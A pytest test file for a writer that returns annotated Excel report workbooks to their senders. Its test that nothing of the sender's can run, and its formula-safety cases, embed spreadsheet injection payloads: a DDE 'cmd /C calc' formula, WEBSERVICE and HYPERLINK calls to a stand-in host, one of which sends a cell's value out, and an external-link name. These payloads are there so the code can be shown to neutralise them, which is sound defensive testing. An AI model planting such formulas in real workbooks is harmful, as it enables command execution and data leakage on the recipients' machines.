"""The returned workbook: every fault in its cell and in the list, and nothing that can run."""

import io
import json
import zipfile
from dataclasses import asdict, replace
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest
import python_calamine
from openpyxl.comments import Comment
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from assets.published.returned.returned_workbook import ReturnedReport, write_returned_workbook
from assets.published.returned.sender_workbook import is_harmless_formula
from expectations.codes import build_finding
from tests import spec
from warehouse.files.formats.workbook import Workbook
from warehouse.finding_draft import FindingDraft
from warehouse.forms.blank.template import BlankForm, write_form
from warehouse.forms.reading.template_report import read_template
from warehouse.periods import parse_period_code

CATALOGUE = spec.catalogue()
AT = datetime(2023, 5, 16, 9, tzinfo=UTC)
VALUES = {e.element: 0 for e in CATALOGUE.forms["ward"].elements} | {
    "plan_in_force": 1,
    "comm_sessions": "khoảng 300",
    "comm_participants": 9000,
}
LIST = "LOI_CAN_SUA"
RED, AMBER, PLAIN = "00FFC7CE", "00FFE08A", "00FFFBE0"


@pytest.fixture
def ours(tmp_path):
    """Write our own form with a fault, as it lies in the archive: named by its hash."""
    path = tmp_path / "9f86d081"
    write_form(
        CATALOGUE, BlankForm("ward", "DK-ANHDUNG", parse_period_code("2023-05"), VALUES), path
    )
    return path


@pytest.fixture
def out(tmp_path):
    return tmp_path / "returned.xlsx"


def report_of(path):
    return read_template(Workbook(path.read_bytes()), CATALOGUE)


def finding(code, element, cell, observed, sheet="Báo cáo", **about):
    report = type("Named", (), {"form": "ward", "unit": None, "period": None})
    return build_finding(
        FindingDraft(code, element, sheet, cell, observed, about), "s1", report, CATALOGUE
    )


FINDINGS = (
    finding("W-RANGE-001", "comm_participants", "D13", "9000", low="0", high="5000"),
    finding("E-NUM-004", "comm_sessions", "D12", "khoảng 300"),
)


def submission(original, **changes):
    known = {"form": "ward", "unit": "DK-ANHDUNG", "period": "2023-05", "values": VALUES}
    return ReturnedReport(
        original, AT, **known | {"findings": FINDINGS, "file_name": "BC.xlsx"} | changes
    )


def returned(path, given):
    write_returned_workbook(CATALOGUE, given, path)
    return opened(path)


def listed(book):
    """Return the rows of the list by the text in their first column."""
    rows = [[str(v or "") for v in row] for row in book[LIST].iter_rows(values_only=True)]
    return [row for row in rows if row[0].isdigit()]


def opened(path):
    return openpyxl.load_workbook(io.BytesIO(path.read_bytes()))


def links(sheet):
    return [c.hyperlink.location for row in sheet for c in row if getattr(c, "hyperlink", None)]


def test_our_own_form_comes_back_as_filled_with_the_fault_in_the_cell(ours, out):
    before = opened(ours)["Báo cáo"]
    book = returned(out, submission(ours, carries_manifest=True))
    sheet = book["Báo cáo"]
    assert book.sheetnames == [LIST, "Báo cáo", "Hướng dẫn", "_chiso"]
    assert book["_chiso"].sheet_state == "veryHidden"
    for attribute in ("data_validations", "conditional_formatting"):
        assert len(list(getattr(sheet, attribute))) == len(list(getattr(before, attribute))) > 0
    assert sheet.protection.sheet
    assert not sheet["D12"].protection.locked
    assert [sheet[c].fill.fgColor.rgb for c in ("D12", "D13", "D14")] == [RED, AMBER, PLAIN]
    note = sheet["D12"].comment.text
    assert note.index("là số ước chừng") < note.index("Ghi con số") < note.index("is an estimate")
    assert sheet["D14"].comment is None
    assert report_of(out).content_sha256 == report_of(ours).content_sha256


def test_the_list_leads_to_the_cells_and_says_what_to_do(ours, out):
    book = returned(out, submission(ours, carries_manifest=True))
    (error, warning), sheet = listed(book), book[LIST]
    assert error[1].startswith("Lỗi: phải sửa")
    assert error[2:6] == [
        "E-NUM-004",
        "Báo cáo!D12",
        "Số buổi tuyên truyền trực tiếp",
        "khoảng 300",
    ]
    assert "là số ước chừng" in error[6]
    assert "is an estimate" in error[6]
    assert error[7]
    assert warning[2] == "W-RANGE-001"
    assert links(sheet) == ["'Báo cáo'!D12", "'Báo cáo'!D13"]
    texts = [c.value for c in sheet["A"] if c.value]
    assert "BÁO CÁO CẦN SỬA" in texts
    assert "1 lỗi phải sửa; 1 cảnh báo cần xem lại" in texts
    assert any("Phường Anh Dũng" in t and "Tháng 05/2023" in t and "BC.xlsx" in t for t in texts)
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    # Sheets selected together would be edited together.
    assert [s.sheet_view.tabSelected for s in book] == [True, False, False, False]


def test_findings_may_be_rows_of_the_table_and_need_no_cell(ours, out):
    rows = [asdict(FINDINGS[1]) | {"sheet": None, "cell": None}]
    book = returned(out, submission(ours, carries_manifest=True, findings=rows))
    assert listed(book)[0][3] == "Báo cáo!D12"
    assert book["Báo cáo"]["D12"].fill.fgColor.rgb == RED


def test_a_viewer_that_does_not_calculate_shows_the_state(ours, out):
    write_returned_workbook(CATALOGUE, submission(ours, carries_manifest=True), out)
    rows = python_calamine.CalamineWorkbook.from_path(out).get_sheet_by_name("Báo cáo")
    cells = rows.to_python(skip_empty_area=False)
    assert cells[8][0] == "✘ Còn 1 chỗ cần sửa"
    assert cells[11][5] == "✘ Chỉ ghi số nguyên không âm, không kèm chữ"


def test_a_second_return_wipes_the_marks_of_the_first(ours, out, tmp_path):
    book = returned(out, submission(ours, carries_manifest=True))
    book["Báo cáo"]["D12"] = 300
    book.save(tmp_path / "mended")
    again = returned(
        out, submission(tmp_path / "mended", carries_manifest=True, findings=FINDINGS[:1])
    )
    assert again.sheetnames.count(LIST) == 1
    assert [row[2] for row in listed(again)] == ["W-RANGE-001"]
    sheet = again["Báo cáo"]
    assert (sheet["D12"].value, sheet["D12"].fill.fgColor.rgb) == (300, PLAIN)
    assert sheet["D12"].comment is None


def test_a_title_typed_over_can_be_mended(ours, out):
    fault = finding("E-UNIT-002", None, "C6", "Phường Lạ", expected="Phường Anh Dũng")
    book = returned(out, submission(ours, carries_manifest=True, findings=[fault]))
    assert not book["Báo cáo"]["C6"].protection.locked
    assert "Phường Lạ" in book["Báo cáo"]["C6"].comment.text


def rewritten(**manifest):
    """Rewrite a workbook so that its manifest names cells that do not exist."""
    book = openpyxl.Workbook()
    usual = {"form": "ward", "version": 1, "unit": "DK-ANHDUNG", "period": "2023-05"}
    cells = {"unit_cell": "C6", "period_cell": "C7", "cells": {"volunteers": "D49"}}
    book.active.title = "Báo cáo"
    book.create_sheet("_chiso")["A1"] = json.dumps(usual | cells | manifest)
    content = io.BytesIO()
    book.save(content)
    return content.getvalue()


@pytest.mark.parametrize(
    ("carries", "content"),
    [
        (False, b"not a workbook"),
        (True, b"not a workbook"),
        (True, rewritten()),
        (True, rewritten(sheet="absent")),
        (True, rewritten(sheet="_chiso")),
        (True, rewritten(sheet="Báo cáo", cells={"volunteers": "A1:XFD1048576"})),
    ],
)
def test_another_layout_comes_back_in_our_form(out, tmp_path, carries, content):
    """So does a file of ours that cannot be carried, or that someone tampered with."""
    (tmp_path / "sent").write_bytes(content)
    sent = [replace(f, sheet=None, cell="D11") for f in FINDINGS[1:]]
    given = submission(tmp_path / "sent", carries_manifest=carries, findings=sent, sheet="Sheet1")
    book = returned(out, given)
    sheet = book["Báo cáo"]
    assert (sheet["D12"].value, sheet["D13"].value) == ("khoảng 300", 9000)
    assert (sheet["D19"].value, sheet["C6"].value) == ("Có", "Phường Anh Dũng")
    assert sheet["D12"].fill.fgColor.rgb == RED
    (row,) = listed(book)
    assert (row[3], row[8]) == ("Báo cáo!D12", "Sheet1!D11")
    assert book["_chiso"].sheet_state == "veryHidden"
    assert report_of(out).unit == "DK-ANHDUNG"


@pytest.mark.parametrize(
    ("known", "expected_text"),
    [
        (
            {"form": None, "unit": None, "period": None},
            ["biểu mẫu", "đơn vị báo cáo", "kỳ báo cáo"],
        ),
        ({"unit": None}, ["đơn vị báo cáo"]),
        ({"period": None}, ["kỳ báo cáo"]),
    ],
)
def test_of_the_unrecognised_there_is_only_the_list(out, known, expected_text):
    fault = finding("E-UNIT-001", None, "A2", "UBND xã Lạ", sheet="Sheet1")
    book = returned(out, submission(Path("absent"), findings=[fault], **known))
    assert book.sheetnames == [LIST]
    texts = [c.value for c in book[LIST]["A"] if c.value]
    assert "BÁO CÁO CHƯA NHẬN DIỆN ĐƯỢC" in texts
    assert [
        t.split(".")[0].removeprefix("Chưa rõ ") for t in texts if "Chưa rõ" in t
    ] == expected_text
    assert listed(book)[0][3] == "Sheet1!A2"
    assert not links(book[LIST])


@pytest.mark.parametrize("code", ["E-PERIOD-002", "E-PERIOD-003", "E-PERIOD-007", "E-UNIT-003"])
def test_of_a_wrong_unit_or_period_there_is_no_form_that_could_never_be_right(out, code):
    """A form of ours is for one unit and period: typed over, it would come back again."""
    title = finding(code, None, "A5", "Quý I/2022", sheet="BC", expected="Tháng 01/2022")
    value = replace(FINDINGS[1], sheet="BC", cell="D11")
    given = submission(Path("absent"), findings=[title, value], sheet="BC")
    book = returned(out, given)
    assert book.sheetnames == [LIST]
    assert [(row[2], row[3]) for row in listed(book)] == [
        (code, "BC!A5"),
        ("E-NUM-004", "BC!D11"),
    ]


def test_a_doubt_about_the_period_alone_keeps_our_form(out):
    doubt = finding("W-PERIOD-001", None, "A5", "Tháng 05/2023", sheet="BC")
    book = returned(out, submission(Path("absent"), findings=[doubt, FINDINGS[1]], sheet="BC"))
    assert "Báo cáo" in book.sheetnames


def test_nothing_of_the_senders_can_run(ours, out):
    sent = opened(ours)
    sheet = sent["Báo cáo"]
    sheet["D14"] = '=WEBSERVICE("http://x/"&D12)'
    sheet["E14"] = "=cmd|' /C calc'!A0"
    sheet["E15"].hyperlink = "http://x/"
    sheet["E16"] = "=1+2"
    sheet["E16"].comment = Comment("của người gửi", "người gửi")
    sheet.add_data_validation(
        DataValidation(type="custom", formula1='WEBSERVICE("http://x/")', sqref="E17")
    )
    sent.defined_names["evil"] = DefinedName("evil", attr_text="[1]Sheet1!$A$1")
    sent.create_sheet("khác")["A1"] = '=HYPERLINK("http://x/","bấm")'
    sent.properties.creator = "Nguyễn Văn A"
    sent.save(ours)
    hostile = replace(FINDINGS[1], observed="=cmd|' /C calc'!A0", message_vi="@SUM(A1)\x02")
    given = submission(
        ours, carries_manifest=True, findings=[hostile], values=VALUES | {"online_posts": 7}
    )
    book = returned(out, given)
    sheet = book["Báo cáo"]
    assert sheet["D14"].value == 0  # what was read of the cell stands for its formula
    assert (sheet["E14"].value, sheet["E14"].data_type) == ("=cmd|' /C calc'!A0", "s")
    assert sheet["E16"].data_type == "f"
    assert (book["khác"]["A1"].data_type, book["khác"]["A1"].quotePrefix) == ("s", True)
    assert "=cmd|' /C calc'!A0" in listed(book)[0]
    assert "evil" not in book.defined_names
    assert book.properties.creator == "chiso"
    parts = zipfile.ZipFile(out)
    everything = b"".join(parts.read(name) for name in parts.namelist())
    for trace in (b'TargetMode="External"', b"externalLink", b"<f>cmd", b"<f>HYPERLINK"):
        assert trace not in everything
    assert b"WEBSERVICE" not in everything


@pytest.mark.parametrize(
    ("formula", "harmless"),
    [
        ("=D12+D13", True),
        ('=IF(SUM($D$12:D15)>0,"x","")', True),
        ("=WEBSERVICE(A1)", False),
        ('=HYPERLINK("http://x")', False),
        ("=cmd|'/C calc'!A0", False),
        ("='[1]Sheet1'!A1", False),
        ("=Sheet2!A1", False),
        ("=evil", False),
        ('=sum(INDIRECT("x"))', False),
        ("=", True),
    ],
)
def test_a_formula_is_harmless_if_it_computes_from_its_own_sheet(formula, harmless):
    assert is_harmless_formula(formula) is harmless


@pytest.mark.parametrize("carries", [True, False])
def test_the_same_submission_gives_the_same_bytes(ours, tmp_path, carries):
    contents = []
    for number, moment in enumerate((AT, AT, AT.replace(day=17))):
        given = replace(submission(ours, carries_manifest=carries), received_at=moment)
        write_returned_workbook(CATALOGUE, given, tmp_path / f"{number}.xlsx")
        contents.append((tmp_path / f"{number}.xlsx").read_bytes())
    assert contents[0] == contents[1] != contents[2]
